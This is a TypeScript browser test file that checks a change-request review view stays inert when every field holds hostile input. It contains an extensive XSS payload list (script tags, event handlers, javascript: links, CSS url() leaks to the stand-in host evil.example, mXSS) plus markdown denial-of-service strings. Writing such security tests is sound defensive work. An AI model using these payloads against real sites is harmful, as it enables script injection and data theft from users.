import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM, launchBrowser } from '../../platform/test/web/browser.ts';
import { generations, type McpConnection } from '../support/clients.ts';
import { openStage, type StageOptions } from './stage.ts';

const RUN = 'window.ran=true';
const OUT = 'https://evil.example/';
const TAG = `"'><img src="${OUT}t" onerror="${RUN}"><script>${RUN}</script>`;

/** Texts that would run or fetch something if any of them were treated as more than text. */
const HOSTILE = `${TAG}

<script>${RUN}</script>

<svg onload="${RUN}"><style>@import '${OUT}x.css'</style></svg>

<style>body{background:url(${OUT}css)} input[value^=a]{background:url(${OUT}a)}</style>

<link rel="stylesheet" href="${OUT}l.css"><meta http-equiv="refresh" content="0;url=${OUT}r"><base href="${OUT}">

<iframe src="${OUT}f" srcdoc="<script>parent.ran=true</script>"></iframe><object data="${OUT}o"></object>

<video src="${OUT}v" poster="${OUT}p" autoplay onloadstart="${RUN}"></video><form action="${OUT}"><button formaction="javascript:${RUN}">b</button></form>

<details open ontoggle="${RUN}"><summary style="background:url(${OUT}s)">s</summary></details>

<table background="${OUT}bg"><tr><td onmouseover="${RUN}" style="background:url(${OUT}td)">cell</td></tr></table>

Inline <img src=${OUT}i onerror=${RUN}> <a href="javascript:${RUN}">anchor</a> <mark style="background:url(${OUT}m)">m</mark> <span onclick="${RUN}">span</span>

[one](javascript:${RUN}) [two](JaVaScRiPt:${RUN}) [three](data:text/html,<script>${RUN}</script>) ![image](${OUT}md.png) ![image](javascript:${RUN})

<javascript:${RUN}>

# <img src=x onerror=${RUN}>

\`\`\`html" onmouseover="${RUN}
</code></pre><script>${RUN}</script>
\`\`\`

{% hint style="info\\" onclick=\\"${RUN}" %}
<math><mtext></mtext><mglyph><style></math><img src onerror=${RUN}>
{% endhint %}

| <script>${RUN}</script> |
| --- |
| <img src=x onerror=${RUN}> |

[^1]: <script>${RUN}</script>

</main></body><script>${RUN}</script> </script><!-- <script>${RUN}</script>
`;

/** Everything in the view that could run, load or style something. */
const FINDINGS = `[...document.querySelectorAll('#app *')].flatMap((element) => [
  ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|BASE|STYLE|LINK|META|IMG|SVG|VIDEO|FORM|A)$/i.test(element.tagName) ? [element.outerHTML] : []),
  ...element.getAttributeNames().filter((name) =>
    /^on|^style$|^srcdoc$|^href$|^src$|^action$|^formaction$|^background$|^poster$/.test(name),
  ).map((name) => element.outerHTML),
])`;

const CHANGE = { page: 'page1', title: TAG, change: 'created', path: TAG, movedFrom: TAG };

/** The result of a review in which every text is malicious. */
function hostileResult(markdown: string) {
  const lines = markdown.split('\n');
  const diff = `--- /\n+++ /${TAG}\n@@ -0,0 +1,${lines.length} @@\n${lines.map((line) => `+${line}\n`).join('')}`;
  return {
    content: [{ type: 'text', text: '{}' }],
    structuredContent: {
      number: 1,
      subject: TAG,
      status: TAG,
      outdated: true,
      revision: TAG,
      changes: [
        { ...CHANGE, diff },
        { ...CHANGE, page: 'page2', change: 'edited', diff: diff.replaceAll('\n+', '\n-') },
      ],
      openComments: [
        { id: TAG, postedBy: { displayName: TAG }, page: TAG, body: { markdown } },
        { id: TAG, postedBy: { displayName: TAG }, body: { markdown: TAG } },
      ],
      badLinks: [{ page: 'page1', title: TAG, status: 'broken', target: TAG, line: 3 }],
      urls: { app: `javascript:${RUN}` },
    },
  };
}

describe.skipIf(CHROMIUM === undefined)('a malicious change request', () => {
  let browser: Browser;
  let server: McpConnection;

  beforeAll(async () => {
    browser = await launchBrowser();
    server = (await generations[0]?.stdio()) as McpConnection;
  });

  afterAll(async () => {
    await browser.close();
    await server.close();
  });

  const open = (options: StageOptions) =>
    openStage(browser, server, { spaceId: TAG, changeRequestId: TAG }, options);

  it.each([
    ['without the content security policy', true],
    ['with what it forbids in force', false],
  ])('runs nothing and fetches nothing, %s', async (_, bypassCSP) => {
    const capabilities = { serverTools: {}, openLinks: {} };
    const result = hostileResult(HOSTILE);
    const { app, page, asked, problems, close } = await open({ result, capabilities, bypassCSP });
    const frame = page.frames()[1];
    for (const mode of ['Rendered', 'Text']) {
      await app.getByLabel(mode).check();
      for (const step of ['Next page', 'Previous page']) {
        await app.getByRole('button', { name: step }).click();
        expect(await app.locator('body').textContent()).toContain(RUN);
        expect(await frame?.evaluate(FINDINGS)).toEqual([]);
      }
    }
    await app.getByLabel('Rendered').check();
    await app.getByRole('button', { name: 'Next page' }).click();
    for (const link of await app.locator('.link').all()) await link.dispatchEvent('click');
    // The host asks a person who clicks, and only about web addresses.
    for (const { method, params } of asked) {
      expect([method, params.url]).toEqual(['ui/open-link', expect.stringMatching(/^https:/)]);
    }
    expect(await frame?.evaluate('window.ran')).toBe(undefined);
    expect(problems).toEqual([]);
    expect(frame?.url()).toBe('about:srcdoc');
    await close();
  });

  it('accepts no messages from other frames', async () => {
    const { app, page, close } = await open({ result: hostileResult('Text.') });
    await app.getByRole('heading', { level: 1 }).waitFor();
    const message = { jsonrpc: '2.0', method: 'ui/notifications/tool-cancelled', params: {} };
    await page.frames()[1]?.evaluate(`window.postMessage(${JSON.stringify(message)}, '*')`);
    expect(await app.getByRole('heading', { level: 1 }).isVisible()).toBe(true);
    await close();
  });

  it.each([
    ['brackets', '['.repeat(190_000)],
    ['emphasis', '*a_ '.repeat(45_000)],
    ['quotes', `${'>'.repeat(90_000)} a`],
    ['lists', Array.from({ length: 600 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n')],
    ['tags', '<b>'.repeat(60_000)],
    ['markup within markup', `<div>${'<div>'.repeat(20_000)}`],
    ['lines', 'a\n\n'.repeat(30_000)],
    ['links', '[a](b'.repeat(30_000)],
    ['tables', `|a\n|-\n${'|a'.repeat(30_000)}`],
    ['references', `${'[a]'.repeat(6_000)}\n\n`.repeat(8)],
  ])('renders quickly, however large it is: %s', async (_, markdown) => {
    const capabilities = { serverTools: {} };
    const { app, close } = await open({ result: hostileResult(markdown), capabilities });
    await app.getByRole('button', { name: 'Next page' }).click({ timeout: 15_000 });
    await app.getByLabel('Text').check({ timeout: 15_000 });
    await close();
  });
});
